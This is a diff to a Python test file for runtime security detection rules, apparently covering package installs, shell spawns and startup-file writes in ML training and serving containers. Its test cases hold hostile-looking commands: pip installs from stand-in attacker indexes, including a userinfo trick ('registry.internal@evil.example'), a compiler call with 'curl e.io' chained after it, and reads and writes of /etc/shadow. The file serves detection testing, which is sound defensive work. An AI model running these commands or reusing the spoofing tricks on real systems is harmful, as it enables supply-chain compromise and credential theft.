@@ -31,6 +31,50 @@ OWN = (
     "/home/jovyan/.aws/credentials", "/root/.docker/config.json", "/var/lib/airflow/home/.aws/credentials",
     "/etc/kubernetes/pki/ca.crt", "/proc/self/environ", "/proc/7/status", "/proc/7/root/usr/lib/x.so",
 )  # fmt: skip
+INDEX = "http://registry.internal/pypi/simple"
+APPROVED_PACKAGES = [
+    ("uv, offline", r.spawned("uv sync --frozen --offline --find-links /opt/wheels")),
+    ("pip, no index", r.spawned("pip /usr/bin/pip install --no-index -f /opt/wheels x", exepath=r.PYTHON)),
+    ("pip, index by option", r.spawned(f"python3 -m pip install -i {INDEX} x")),
+    ("pip, long option", r.spawned(f"pip /usr/bin/pip install x --index-url={INDEX}", exepath=r.PYTHON)),
+    ("pip, by environment", r.spawned("python3 -m pip install -r r.txt", proc_env_pip=INDEX)),
+    ("uv, index by option", r.spawned(f"uv pip install --default-index {INDEX} x")),
+    ("uv, by environment", r.spawned("uv pip install x", proc_env_uv=INDEX)),
+    ("uv, by its newer name", r.spawned("python3 -m uv pip install x", proc_env_uv_default=INDEX)),
+]
+"""Packages that come from where the site said, in training."""
+OTHER_PACKAGES = [
+    ("no index said", r.spawned("python3 -m pip install x")),
+    ("another index", r.spawned("python3 -m pip install -i https://pypi.org/simple x")),
+    ("approved as user", r.spawned("python3 -m pip install -i https://registry.internal@evil.example/simple x")),
+    ("a second index", r.spawned(f"python3 -m pip install -i {INDEX} --extra-index-url https://evil.example x")),
+    ("a second by environment", r.spawned(f"python3 -m pip install -i {INDEX} x", proc_env_pip_extra="https://e.io")),
+    ("a second of uv's", r.spawned(f"uv pip install --default-index {INDEX} x", proc_env_uv_extra="https://e.io")),
+    (
+        "uv's by its newer name",
+        r.spawned(f"uv pip install --default-index {INDEX} x", proc_env_uv_index="https://e.io"),
+    ),
+    ("an approved file", r.spawned("python3 -m pip install http://registry.internal/x.whl")),
+    ("a file beside an index", r.spawned("python3 -m pip install https://e.io/x.whl", proc_env_pip=INDEX)),
+    ("offline, a file", r.spawned("uv pip install --offline https://e.io/x.whl")),
+    ("environment elsewhere", r.spawned("python3 -m pip install x", proc_env_pip="https://registry.internal.e.io/")),
+    ("both by environment", r.spawned("pip3 install x", proc_env_pip=INDEX, proc_env_pip_extra="https://e.io")),
+    ("uv, environment of pip", r.spawned("uv pip install x", proc_env_pip=INDEX)),
+    ("uv as a module, pip's", r.spawned("python3 -m uv pip install x", proc_env_pip=INDEX)),
+    ("pip, environment of uv", r.spawned("python3 -m pip install x", proc_env_uv=INDEX)),
+    ("uv, two", r.spawned("uv sync", proc_env_uv=INDEX, proc_env_uv_extra="https://e.io")),
+    ("uv, two by the newer name", r.spawned("uv sync", proc_env_uv=INDEX, proc_env_uv_index="https://e.io")),
+    ("conda", r.spawned("conda install --offline x")),
+    ("serving", r.spawned("uv sync --offline", r.SERVER)),
+    ("training that serves", r.spawned("uv sync --offline", k8s_ns_name="ml-serving")),
+]
+JIT = ("cicc --c++17 /tmp/x.ii", "fatbinary -64 /tmp/x.ptx", "cudafe++ --x /tmp/x.ii", "nvlink -arch=sm_90 /tmp/x.o",
+       "hipcc -c /root/.cache/x.hip", "nvcc -c /root/.cache/x.cu")  # fmt: skip
+NVCC = "/usr/local/cuda-12.4/bin/nvcc"
+MPIRUN = "/opt/hpcx/ompi/bin/mpirun"
+LAUNCHERS = ("mpirun", "mpiexec", "mpiexec.hydra", "prterun", "orted", "prted", "hydra_pmi_proxy")
+BESIDE = {"image": r.OTHER, "k8s_ns_name": "ml-serving"}
+STARTUP_FILE = {"image": r.OTHER, "mode": "w"}
 KUBECTL = "/usr/local/bin/kubectl"
 WHEEL_TOOL = "/tmp/pip-build-env-a1/overlay/lib/python3.11/site-packages/cmake/data/bin/cmake"
 BELOW_PYTHONS_FOLDER = "/usr/local/lib/python3.12/dist-packages/triton/backends/nvidia/bin/ptxas"
@@ -95,6 +139,21 @@ FIRES = [
         "WireGuard",
         r.connected("203.0.113.9", 51820, r.SERVER, evt_type="sendmmsg", fd_l4proto="udp"),
     ),
+    *((r.PACKAGE, what, event) for what, event in OTHER_PACKAGES),
+    *((r.PACKAGE_APPROVED, what, event) for what, event in APPROVED_PACKAGES),
+    # What looks like the start of a server.
+    (r.SHELL, "below a compiler", r.spawned("sh -c -- cicc /tmp/x.ii; curl e.io", r.SERVER, parent=NVCC)),
+    (r.SHELL, "no compiler", r.spawned("sh -c -- ciccx /tmp/x.ii", r.SERVER, parent=NVCC)),
+    (r.SHELL, "launcher below Python", r.spawned("x", r.SERVER, parent=MPIRUN, proc_aname_2="python3")),
+    (
+        r.SHELL,
+        "launcher of a shell below Python",
+        r.spawned("x", r.SERVER, parent=MPIRUN, proc_aname_2="sh", proc_aname_3="python3"),
+    ),
+    (r.SHELL, "crond in the server", r.spawned("x", r.SERVER, parent="/usr/sbin/crond")),
+    (r.SHELL, "a table with an attack", r.below_python("sh -c cat /etc/shadow", container_name="logrotate", **BESIDE)),
+    (r.STARTUP, "kaniko's path in training", r.opened("/etc/shadow", "w", by="x", proc_exepath="/kaniko/executor")),
+    (r.STARTUP, "by its name only", r.opened("/etc/shadow", by="executor", **STARTUP_FILE)),
     # Logins where nobody asked.
     (r.PORT, "dropbear", listening(2222, proc_name="dropbear", proc_aname_2="bash")),
     (r.PORT, "dropbear, serving", listening(22, r.SERVER, proc_name="dropbear")),
@@ -160,6 +219,32 @@ SILENT = [
     (r.HIGH_PORT, "both", r.connected("203.0.113.9", 51820, k8s_ns_name="ml-serving")),
     (r.SERVING_INTERNET, "high port inside", r.connected("10.0.0.9", 51820, r.SERVER)),
     (r.INTERNET, "Ray with public addresses", r.connected("203.0.113.9", 40001)),
+    *((r.PACKAGE, what, event) for what, event in APPROVED_PACKAGES),
+    *((r.PACKAGE_APPROVED, what, event) for what, event in OTHER_PACKAGES),
+    (r.PACKAGE_APPROVED, "asks", r.spawned("uv pip list --offline")),
+    (r.PACKAGE_APPROVED, "did not start", r.spawned("uv sync --offline", evt_failed=True)),
+    *((r.SHELL, command, r.spawned(f"sh -c -- {command}", r.SERVER, parent=NVCC)) for command in JIT),
+    (r.SHELL, "hipcc", r.spawned("hipcc -c x.hip", r.SERVER, r.PYTHON, parent="/usr/bin/ninja")),
+    *(
+        (r.SHELL, f"rank of {name}", r.spawned("serve.sh", r.SERVER, parent=f"/usr/bin/{name}", proc_aname_2="tini"))
+        for name in LAUNCHERS
+    ),
+    (
+        r.SHELL,
+        "rank below a script",
+        r.spawned("serve.sh", r.SERVER, parent=MPIRUN, proc_aname_2="bash", proc_aname_3="containerd-shim"),
+    ),
+    *(
+        (r.SHELL, f"below {name}", r.spawned("gzip", parent=f"/usr/sbin/{name}", **BESIDE))
+        for name in ("crond", "cron", "logrotate")
+    ),
+    *(
+        (r.SHELL, name, r.spawned("x", parent="/bin/y", container_name=name, **BESIDE))
+        for name in ("logrotate", "fluent-bit", "fluentd", "filebeat", "promtail", "vector", "config-reloader")
+    ),
+    (r.STARTUP, "kaniko", r.opened("/etc/shadow", by="x", proc_exepath="/kaniko/executor", **STARTUP_FILE)),
+    (r.STARTUP, "step of a build", r.opened("/etc/shadow", by="useradd", proc_aname_2="executor", **STARTUP_FILE)),
+    (r.TEMPORARY, "kaniko", r.spawned("x", r.OTHER, exepath="/kaniko/executor", proc_is_exe_upper_layer=True)),
     (r.PORT, "MPI's worker", listening(2222, proc_name="sshd", proc_aname_2="containerd-shim")),
     (r.GPU, "another device by number", r.opened("/hostchar/1:3", image=r.OTHER)),
     (r.CREDENTIALS, "own root", r.opened("/proc/42/root/etc/nginx/nginx.conf")),
